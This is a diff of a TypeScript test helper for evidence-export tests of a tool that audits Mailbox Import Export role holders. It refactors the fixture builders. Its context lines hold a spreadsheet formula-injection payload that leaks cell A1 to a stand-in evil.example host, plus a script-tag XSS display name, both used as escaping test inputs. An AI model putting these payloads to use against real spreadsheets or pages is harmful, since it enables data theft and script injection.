@@ -1,9 +1,9 @@
-/** Shared by the evidence tests: an independent RFC 4180 reader, sample holders and a captured CLI io. */
-import type { CliIo } from '../../cli/main.js';
-import type { Finding, Grant, Holder } from '../../lib/domain.js';
+/** Shared by the evidence tests: an independent RFC 4180 reader and a morning of stored history. */
+import type { Grant, Holder } from '../../lib/domain.js';
 import { MIE_ROLE } from '../../lib/domain.js';
 import type { JournalEntryInput } from '../../lib/ports/index.js';
 import type { OpenedStore } from '../../lib/store/index.js';
+import { holder, unapprovedFinding } from '../../testkit/fixtures.js';
 
 /**
  * Reads CSV per RFC 4180 (quoted fields with "" escapes, CRLF records) without the code under test,
@@ -59,34 +59,10 @@ export function csvObjects(text: string): Record<string, string>[] {
   return rows.map((r) => Object.fromEntries(header.map((name, i) => [name, r[i] ?? ''])));
 }
 
-export function holder(principal: string, assignmentName: string, extra: Partial<Holder> = {}): Holder {
+/** A direct holder of a named assignment (its guid derived from the name), shown by mail nickname. */
+function namedHolder(principal: string, assignmentName: string, over: Partial<Holder> = {}): Holder {
   const guid = `guid-${assignmentName.replace(/\W+/g, '-').toLowerCase()}`;
-  return {
-    key: `${principal}|${guid}`,
-    principal,
-    principalType: 'User',
-    displayName: principal.split('@')[0],
-    role: MIE_ROLE,
-    via: 'direct',
-    path: 'direct assignment',
-    assignmentGuid: guid,
-    assignmentName,
-    scope: 'Organization',
-    enabled: true,
-    ...extra,
-  };
-}
-
-export function captureIo(env: CliIo['env'] = {}): CliIo & { stdout: string; stderr: string } {
-  const io = {
-    stdout: '',
-    stderr: '',
-    env,
-    out: (t: string) => void (io.stdout += t.endsWith('\n') ? t : `${t}\n`),
-    err: (t: string) => void (io.stderr += t.endsWith('\n') ? t : `${t}\n`),
-    write: async (chunk: string) => void (io.stdout += chunk),
-  };
-  return io;
+  return holder(principal, guid, { displayName: principal.split('@')[0], assignmentName, ...over });
 }
 
 export const T = (hhmm: string): string => `2026-03-01T${hhmm}:00.000Z`;
@@ -99,13 +75,13 @@ export const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for 
 export async function seedHistory(
   store: OpenedStore,
 ): Promise<{ alex: Holder; lynne: Holder; adele: Holder; grant: Grant }> {
-  const alex = holder('alexw@contoso.onmicrosoft.com', 'Mailbox Import Export-AlexW');
-  const lynne = holder('lynner@contoso.onmicrosoft.com', 'Mailbox Import Export-PST Migration Operators', {
+  const alex = namedHolder('alexw@contoso.onmicrosoft.com', 'Mailbox Import Export-AlexW');
+  const lynne = namedHolder('lynner@contoso.onmicrosoft.com', 'Mailbox Import Export-PST Migration Operators', {
     via: 'role-group',
     viaName: 'PST Migration Operators',
     path: 'via role group PST Migration Operators',
   });
-  const adele = holder('adelev@contoso.onmicrosoft.com', 'MIE-grant-g-1', {
+  const adele = namedHolder('adelev@contoso.onmicrosoft.com', 'MIE-grant-g-1', {
     displayName: '<script>alert("Adele")</script>',
   });
   const grant: Grant = {
@@ -129,15 +105,7 @@ export async function seedHistory(
     endedBy: 'watchdog',
     endReason: 'expired',
   };
-  const finding: Finding = {
-    id: 'unapproved|alexw',
-    kind: 'unapproved',
-    principal: alex.principal,
-    severity: 'high',
-    summary: 'AlexW holds MIE without a grant',
-    assignmentGuid: alex.assignmentGuid,
-    holderKey: alex.key,
-  };
+  const finding = unapprovedFinding(alex, { id: 'unapproved|alexw', summary: 'AlexW holds MIE without a grant' });
   const events: JournalEntryInput[] = [
     { at: T('08:00'), type: 'holder.added', actor: 'watchdog', subject: alex.key, data: { holder: alex } },
     { at: T('08:00'), type: 'holder.added', actor: 'watchdog', subject: lynne.key, data: { holder: lynne } },
